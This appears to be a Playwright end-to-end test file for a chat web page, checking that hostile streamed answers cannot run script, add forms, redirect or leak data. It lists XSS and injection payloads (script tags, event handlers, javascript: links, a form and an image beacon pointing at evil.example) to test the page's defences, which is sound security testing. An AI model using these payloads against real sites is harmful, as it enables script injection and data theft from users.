"""Answers that attack the page."""

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import Duck, eventually
from tests.e2e.page.visitor import (
    EITHER,
    FLOW,
    HOSTILE_APP,
    Gate,
    Visit,
    ask,
    finished,
    last,
    said,
    started,
)
from tests.test_formats import HOSTILE

# Under attack


MARKUP = [
    "<script>parent.pwned = top.pwned = 1</script>",
    "</x-t></div></article></main></body></html><script>pwned = 1</script>",
    '<img src="x" onerror="pwned=1"><svg onload="pwned=1">',
    "<![CDATA[ x ]]> ]]>",
    '<form action="https://evil.example"><button>Send</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example>",
    HOSTILE,
    "a\0b \u202eevil\u2066 right to left \u061c",
    '<template shadowrootmode="open"><slot name="final"> <!-- both stay open',
]
ATTACKS = {
    "markup": "\n\n".join(MARKUP),
    "links": "[a](javascript:pwned=1) [b](data:text/html,<script>pwned=1</script>) <javascript:pwned=1> "
    "![x](https://evil.example/?secret) ![y](//evil.example/y.png)",
    "one long word": "x" * 1_000_000,
}


@EITHER
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_answer_does_no_harm_while_it_comes_nor_at_its_end(visit: Visit, duck: Duck, attack: str, scripts: bool) -> None:
    gate = Gate([FLOW[0], started("1", attack[:1000]), finished("1", attack[:1000]), said(attack), *FLOW[-2:]])
    duck.host.apps[HOSTILE_APP] = gate.app()
    visitor = visit("/chat/hostile", scripts=scripts)
    page = visitor.page
    ask(page, attack[:1000].replace("\0", ""))
    gate.open(4)
    expect(last(page, "x-t").first).to_be_attached()
    assert_unharmed(page)
    gate.open(2)
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(last(page, "[slot=done]")).to_be_attached()
    assert_unharmed(page)
    assert {request.partition("/e/")[0] for request in visitor.requests} == {duck.host.url.partition("/e/")[0]}


def test_what_a_page_may_not_do_would_be_noticed(visit: Visit) -> None:
    visitor = visit("/")
    visitor.page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x'}))")
    assert eventually(lambda: bool(visitor.page.title() and visitor.complaints))
    visitor.complaints.clear()
    visitor.requests.clear()


def assert_unharmed(page: Page) -> None:
    found = page.evaluate(HARM)
    assert (found["scripts"] <= 1, found["forms"] <= 1) == (True, True)
    assert (found["pwned"], found["strange"], found["articles"], found["links"]) == ("undefined", 0, 1, True)


# While a page comes, its script and its form are not there yet.
HARM = """() => ({
    pwned: typeof pwned,
    scripts: document.scripts.length,
    forms: document.forms.length,
    articles: document.querySelectorAll("main article").length,
    links: [...document.links].every((link) => ["http:", "https:"].includes(link.protocol)),
    strange: [...document.querySelectorAll("article *")].filter((element) =>
        element.matches("script, style, link, base, meta, iframe, form, object, img, svg") ||
        element.getAttributeNames().some((name) => name.startsWith("on"))).length,
})"""
